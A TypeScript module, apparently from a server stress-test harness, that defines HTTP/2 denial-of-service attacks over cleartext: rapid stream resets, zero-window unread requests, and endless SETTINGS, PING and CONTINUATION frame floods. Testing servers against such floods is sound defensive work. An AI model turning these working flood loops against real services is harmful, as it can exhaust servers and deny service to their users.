/**
 * Attacks over HTTP/2 without TLS: streams that are reset or never read, and floods of frames that the server has to
 * answer. Much of what they meet is Deno's own.
 */

import { type Assault, pause } from "../assault.ts";
import type { Attack } from "../attack.ts";
import { joined } from "../messages.ts";
import {
  get,
  moreFields,
  openGet,
  opening,
  ping,
  reset,
  settings,
  windowUpdate,
} from "./http2_frames.ts";
import { storeBig } from "./stored_values.ts";

const STREAMS = 50;
const WINDOW_BYTES = 2_000_000_000;
const MAX_STREAM = 2_000_000;

/** Numbers of so many streams from `first` on; those of clients are odd. */
function streams(first: number, count: number): number[] {
  return Array.from({ length: count }, (_, i) => first + 2 * i);
}

/** Asks for many large values at a time and resets them after `waitMs`. */
async function askAndReset(assault: Assault, windowBytes: number, waitMs: number): Promise<void> {
  await assault.crowd(assault.pick(10, 2), "http", async (connection) => {
    const ended = connection.discard();
    await connection.send(joined(opening(windowBytes), windowUpdate(0, 1_000_000_000)));
    for (let first = 1; first < MAX_STREAM; first += 2 * STREAMS) {
      const these = streams(first, STREAMS);
      await connection.send(joined(...these.map((stream) => get(stream, "/get/big0"))));
      if (waitMs > 0) await pause(waitMs);
      await connection.send(joined(...these.map(reset)));
    }
    await ended;
  }, true);
}

/** Sends the same frames without end over a few connections. */
async function floodWith(assault: Assault, one: Uint8Array): Promise<void> {
  const many = joined(...Array.from({ length: 5000 }, () => one));
  await assault.crowd(assault.pick(4, 2), "http", async (connection) => {
    await connection.send(opening(WINDOW_BYTES));
    await connection.flood(many);
  }, true);
}

const prepare = (assault: Assault) => storeBig(assault, 1);

/** Attacks over HTTP/2. */
export const HTTP2_ATTACKS: readonly Attack[] = [
  {
    name: "h2-resets",
    sends: "10 HTTP/2 clients that ask for 1 MB fifty times and reset at once, in a loop",
    isAboutTurns: false,
    prepare,
    run: (assault) => askAndReset(assault, WINDOW_BYTES, 0),
  },
  {
    name: "h2-late-resets",
    sends: "the same with a window of 0, and the resets 20 ms later",
    isAboutTurns: false,
    prepare,
    run: (assault) => askAndReset(assault, 0, 20),
  },
  {
    name: "h2-unread",
    sends: "50 HTTP/2 clients with 100 requests for 1 MB each and a window of 0",
    isAboutTurns: false,
    prepare,
    run: (assault) =>
      assault.crowd(assault.pick(50, 3), "http", async (connection) => {
        connection.discard();
        const gets = streams(1, 100).map((stream) => get(stream, "/get/big0"));
        await connection.send(joined(opening(0), ...gets));
        await assault.hold();
      }),
  },
  {
    name: "h2-unread-60kb",
    sends: "10 HTTP/2 clients with 100 requests for 60 KB each and a window of 0",
    isAboutTurns: false,
    prepare: (assault) => storeBig(assault, 1, 60_000),
    run: (assault) =>
      assault.crowd(assault.pick(10, 3), "http", async (connection) => {
        connection.discard();
        const gets = streams(1, 100).map((stream) => get(stream, "/get/big0"));
        await connection.send(joined(opening(0), ...gets));
        await assault.hold();
      }),
  },
  {
    name: "h2-settings",
    sends: "4 HTTP/2 clients that send SETTINGS without end",
    isAboutTurns: true,
    run: (assault) => floodWith(assault, settings()),
  },
  {
    name: "h2-pings",
    sends: "4 HTTP/2 clients that send PING without end",
    isAboutTurns: true,
    run: (assault) => floodWith(assault, ping()),
  },
  {
    name: "h2-continuations",
    sends: "4 HTTP/2 clients with header fields that go on and on",
    isAboutTurns: true,
    run: (assault) =>
      assault.crowd(assault.pick(4, 2), "http", async (connection) => {
        await connection.send(joined(opening(WINDOW_BYTES), openGet(1, "/get?key=k")));
        await connection.flood(moreFields(1, 100));
      }, true),
  },
];
